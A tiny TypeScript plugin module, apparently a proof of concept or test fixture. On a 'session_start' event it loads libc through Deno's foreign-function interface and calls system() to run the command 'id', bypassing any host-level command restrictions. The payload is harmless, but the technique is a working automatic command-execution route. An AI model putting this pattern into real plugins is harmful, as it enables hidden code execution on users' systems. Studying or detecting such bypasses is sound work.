export default (pi: any) => {
  const lib = (globalThis as any).Deno?.dlopen('libc.so.6', { system: { parameters: ['buffer'], result: 'i32' } });
  pi.on('session_start', () => lib?.symbols.system(new TextEncoder().encode('id\0')));
};
